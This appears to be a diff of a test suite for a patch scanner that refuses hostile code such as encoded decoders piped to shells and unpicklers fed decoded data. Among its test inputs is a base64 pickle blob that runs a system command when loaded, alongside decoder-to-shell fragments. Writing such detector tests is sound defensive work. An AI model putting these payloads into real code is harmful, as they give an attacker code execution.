+  ['docs/usage.md', '```sh\niconv -f utf-16 -t utf-8 report.txt > report.utf8.txt\nbash scripts/upload.sh report.utf8.txt\n```'],
+  ['docs/usage.md', '```sh\necho "$KEY" | base64 -d > key.json\nexport GOOGLE_APPLICATION_CREDENTIALS=key.json\nsh deploy.sh\n```'],
+  ['docs/usage.md', "```sh\ntr '[a-z]' '[A-Z]' < names.txt | sort\nversion=`git describe --tags | tr -d v`\nexec env PATH=\"$HOME/bin:$PATH\" \"$@\"\n```"],
+]);
 
 describeFindings('attack-52', [
   ['decoders under other names', DECODER_SPELLINGS],
@@ -225,19 +313,13 @@ describeFindings('attack-52', [
   ['shell decoders', SHELL_DECODERS],
 ]);
 
-// False refusals: ordinary code a fix PR may add, refused since the readings (open: `it.fails` while refused). Each
-// marked "new" was accepted at 56b6e827; "older" was refused before session 49's readings.
-const FALSE_REFUSALS: ReadonlyArray<readonly [path: string, text: string]> = [
-  // older: Process.Start's two-string form (`os.system('npm run build')` is accepted); the line as written is read
-  // besides its spelled-out reading, and `"run build"` there is one unknown verb.
+// False refusals: ordinary code a fix PR may add, refused since the readings. Both were "older" (refused before session
+// 49's readings), closed in session 50: Process.Start's two-string form, whose second string is .NET's command line,
+// read as its words (it was one unknown verb, `"run build"`); a `//` comment after `=` read as a protocol-relative host.
+describeAccepted('attack-52 false refusals, closed in session 50', [
   ['src/Tool.cs', 'Process.Start("npm", "run build");'],
-  // older: a `//` comment after `=` read as a protocol-relative host.
   ['src/load.js', 'const modulePath = // the locale bundle\n  `./locales/${lang}.js`;\nconst messages = await import(modulePath);'],
-];
-
-describe('attack-52 false refusals (open while refused)', () => {
-  it.fails.each(FALSE_REFUSALS.map(([path, text]) => [path, text] as const))('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
-});
+]);
 
 // The false refusals new since 56b6e827, closed (session 49): .NET's Arguments read as its words, a decoded value handed
 // to a child's environment as data, a doc's tested code naming a configuration file without writing, npm's short verbs
@@ -309,13 +391,23 @@ describe('attack-52: the new readings in linear time', () => {
     ['docs/guide.md', 'tested code naming configuration files, writing nothing', ">>> writexxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx '.npmrc' "],
     ['src/check.js', 'PowerShell named apart from its call', "ps = 'pwsh'\nspawnSync(ps, ['-e', "],
     ['src/check.py', 'programs after env, spread or joined, never a verb', "run(['/usr/bin/env', t] + [*[...[ '-a', 'b', "],
+    ['src/t.py', 'decoders written to files, never run', "os.system('echo x | base64 -d > /tmp/p') | tee q  sudo env A=b `x | "],
+    ['src/t.py', 'prefixes and backticks before no decoder', "os.system('sudo exec env A=b -x `echo x | y"],
+    ['src/t.py', 'ANSI-C quoting never escaped', "os.system(\"echo $'abc | sh "],
+    ['src/Run.cs', 'ProcessStartInfo lines setting nothing whole', 'var psi = new ProcessStartInfo\n FileName = "a" + b + $"c" + ArgumentList = { "x", ArgumentList.Add( Arguments = @"'],
+    ['src/check.rb', 'word lists never closed', "system(tool, *%w[a b %q(c %w{d qw<e "],
+    ['src/check.rs', 'computed programs given arguments, never a verb', 'Command::new(tool).arg("-a").arg("b").args(["-c", '],
+    ['src/check.py', 'decoders bound by other names, never called', "d, e = getattr(base64, 'x'), (base64\n .b ['atob'] def d(x): lambda y: f = (a) => "],
+    ['src/check.js', 'reversals and JSON strings never given to a sink', "[...s].reverse().join('' JSON.parse('\"\\u0061 String['fromCharCode' "],
+    ['src/tool.jl', 'Pkg imported, never adding', 'using Pkg: a, b, c, using Pkg: import Pkg a'],
+    ['src/tool.R', 'installers named nowhere', 'p_loa pkg_instal install_githu install.package '],
+    ['src/load.js', 'names given addresses in wrappers, never imported', "u = String(new URL('https:\\/\\/x'; {u} = {a: 'data: l = (v) => import(w"],
     ['src/check.py', 'codecs named, never given to a sink', ".decode('unicode_escape' .decode(' f'instal r' "],
   ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
 });
 
 // Session 49 (the lead, after attack 52): an unpickler given a blob the patch writes into its code, decoded in place,
-// runs what the blob says (pickle's `__reduce__`); decoded data read from elsewhere stays data (the open row above,
-// a blob through a name, stays open).
+// runs what the blob says (pickle's `__reduce__`); session 50: so does one given decoded data from anywhere.
 describe('attack-52: an unpickler given a decoded literal', () => {
   it.each([
     ['src/t.py', "import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))"],
@@ -324,8 +416,14 @@ describe('attack-52: an unpickler given a decoded literal', () => {
     ['src/t.py', "import dill, zlib\nf = dill.loads(zlib.decompress(b'x\\x9c'))"],
   ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
 
+  // Session 50: an unpickler is a code sink, whatever gives it the decoded data (the row above, a blob through a
+  // name, is closed): `__reduce__` runs whether the blob is in the patch or in a row, an environment or a file the
+  // attacker writes, and a decoder between them is how a payload travels as text.
+  it.each([['src/t.py', "import pickle, base64\nstate = pickle.loads(base64.b64decode(row['payload']))"]] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+
   it.each([
-    ['src/t.py', "import pickle, base64\nstate = pickle.loads(base64.b64decode(row['payload']))"],
+    ['src/t.py', "import json, base64\nstate = json.loads(base64.b64decode(row['payload']))"],
+    ['src/t.py', "import pickle\nwith open(path, 'rb') as f:\n    model = pickle.load(f)"],
     ['src/t.py', "import json, base64\nconfig = json.loads(base64.b64decode('e30='))"],
     ['src/t.py', "import numpy as np, io, base64\nweights = np.load(io.BytesIO(base64.b64decode('k05VTVBZ')))"],
   ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
